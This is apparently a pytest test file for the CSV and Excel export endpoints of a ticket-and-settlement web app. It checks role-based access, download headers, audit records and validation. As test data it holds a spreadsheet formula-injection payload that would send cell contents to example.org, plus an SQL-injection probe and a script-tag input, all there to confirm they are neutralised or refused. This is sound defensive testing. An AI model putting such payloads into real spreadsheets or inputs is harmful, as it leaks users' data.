"""Tables leave the house: to whom they may, as they are read, and to nobody who left."""

import csv
import io
import json
from collections.abc import AsyncIterator

import httpx
import openpyxl
import pytest

from tests.databases import Clones
from tests.web.answers import refused
from tests.web.standing import Standing, standing
from tests.web.test_headers import Suspicions

WHO = {
    "entries": {"thida", "su"},
    "transfers": {"thida", "su"},
    "tickets": {"thida", "min"},
    "settlement": {"thida", "min"},
}


@pytest.fixture(scope="module")
async def stood(clones: Clones) -> AsyncIterator[Standing]:
    async with standing(clones) as stood:
        yield stood


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return [*csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))]


@pytest.mark.parametrize("what", WHO)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
async def test_a_table_is_for_whom_it_is_meant(stood: Standing, what: str, form: str) -> None:
    path = f"/api/exports/{what}.{form}"
    for name in ("thida", "min", "su", "aung", "ko"):
        response = await stood.ask(name, "GET", path)
        assert response.status_code == (200 if name in WHO[what] else 403), name
        shown = await stood.page(getattr(stood.cast, name), "GET", path.removeprefix("/api"))
        assert shown.status_code == response.status_code, name
    assert (await stood.client.get(path)).status_code == 401


async def test_a_file_says_what_it_is(stood: Standing) -> None:
    response = await stood.ask("su", "GET", "/api/exports/entries.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["x-content-type-options"] == "nosniff"
    named = response.headers["content-disposition"]
    today = (await stood.pool.fetchval("select now() at time zone 'Asia/Yangon'")).date()
    assert named == f'attachment; filename="entries-{today}.csv"'
    book = await stood.ask("su", "GET", "/api/exports/entries.xlsx")
    assert book.headers["content-type"].endswith("spreadsheetml.sheet")
    assert book.headers["content-disposition"].endswith('.xlsx"')


async def test_what_people_wrote_is_no_formula(stood: Standing) -> None:
    evil = "=HYPERLINK(\"http://example.org/?\"&A1,'x');=1+1"
    path = await stood.open(name="+phase")
    placed = await stood.ask("aung", "POST", f"{path}/tickets",
                             {"text": "137 500\n138 5", "note": evil}, "evil")  # fmt: skip
    assert placed.status_code == 201, placed.text
    # Such notes were taken once.
    await stood.pool.execute("update tickets set note = note || chr(1) where note = $1", evil)
    phase_id = path.rsplit("/", 1)[1]
    answer = await stood.ask("min", "GET", f"/api/exports/tickets.csv?phase_id={phase_id}")
    [row] = _rows(answer)
    assert row["note"] == "'" + evil.replace(";=", ";'=") + "\x01"
    assert (row["phase"], row["bets"]) == ("'+phase", "137=500.00 138=5.00")
    assert row["text"] == "137 500\n138 5"
    book = await stood.ask("min", "GET", f"/api/exports/tickets.xlsx?phase_id={phase_id}")
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).worksheets[0]
    [head, cells] = sheet.iter_rows()
    found = {name.value: cell for name, cell in zip(head, cells, strict=True)}
    assert (found["note"].value, found["note"].data_type) == (evil + "\ufffd", "s")
    assert (found["total"].value, found["total"].number_format) == (505, "0.00")


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        ("entries.csv?phase_id=999", 404, "not-found"),
        ("entries.csv?user_id=999", 404, "not-found"),
        ("entries.csv?user_id=x", 404, "not-found"),
        ("entries.csv?phase_id=1%20or%201=1", 404, "not-found"),
        ("entries.csv?since=yesterday", 400, "malformed"),
        ("entries.csv?since=2026-11-16T09:30:00", 400, "malformed"),
        ("entries.csv?since=1700000000", 400, "malformed"),
        ("entries.csv?since=9999-12-31T23:59:59Z", 400, "malformed"),
        ("entries.csv?since=2026-11-16T00:00:00Z&until=2026-11-16T00:00:00Z", 400, "malformed"),
        ("settlement.csv?user_id=1", 400, "malformed"),
        ("users.csv", 404, "not-found"),
        ("entries.json", 404, "not-found"),
    ],
)
async def test_what_cannot_be_exported_is_refused_in_words(
    stood: Standing, path: str, status: int, code: str
) -> None:
    noted = "select count(*) from audit where action = 'exported'"
    before = await stood.pool.fetchval(noted)
    refused(await stood.ask("thida", "GET", f"/api/exports/{path}"), status, code)
    assert await stood.pool.fetchval(noted) == before


async def test_an_export_names_who_took_it(stood: Standing) -> None:
    await stood.ask("su", "GET", "/api/exports/transfers.csv?user_id=5")
    row = await stood.pool.fetchrow(
        "select * from audit where action = 'exported' order by id desc limit 1"
    )
    assert row is not None
    assert (row["actor_id"], row["subject"]) == (stood.cast.su.id, "transfers")
    assert json.loads(row["after"]) == {"form": "csv", "user_id": 5}
    assert row["address"] == "127.0.0.1"


async def test_the_form_leads_to_the_file(stood: Standing) -> None:
    page = await stood.page(stood.cast.min, "GET", "/exports")
    assert Suspicions(page.text).found == []
    assert ('value="tickets"' in page.text, 'value="entries"' in page.text) == (True, False)
    chosen = "what=tickets&form=csv&phase_id=1&name=AUNG&since=2026-11-16T16:00&until="
    answer = await stood.page(stood.cast.min, "GET", f"/exports/file?{chosen}")
    assert answer.status_code == 303
    # 16:00 in Yangon, which is six and a half hours ahead.
    address = f"/exports/tickets.csv?phase_id=1&user_id={stood.cast.aung.id}"
    assert answer.headers["location"] == f"{address}&since=2026-11-16T09%3A30%3A00Z"
    file = await stood.page(stood.cast.min, "GET", answer.headers["location"])
    assert file.headers["content-disposition"].startswith("attachment")


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("what=tickets&form=csv&name=nobody", "Nobody has this name"),
        ("what=tickets&form=csv&since=x", "Write date and time"),
        ("what=settlement&form=csv&name=aung", "no single person"),
        ("what=tickets&form=pdf", "CSV or Excel"),
        ("what=<script>&form=csv", "CSV or Excel"),
        ("what=tickets&form=csv&since=2026-11-16T16:00&until=2026-11-16T15:00", "lies after"),
    ],
)
async def test_what_goes_against_a_form_is_said_at_it(
    stood: Standing, typed: str, said: str
) -> None:
    answer = await stood.page(stood.cast.thida, "GET", f"/exports/file?{typed}")
    assert (answer.status_code, said in answer.text) == (400, True)
    assert Suspicions(answer.text).found == []
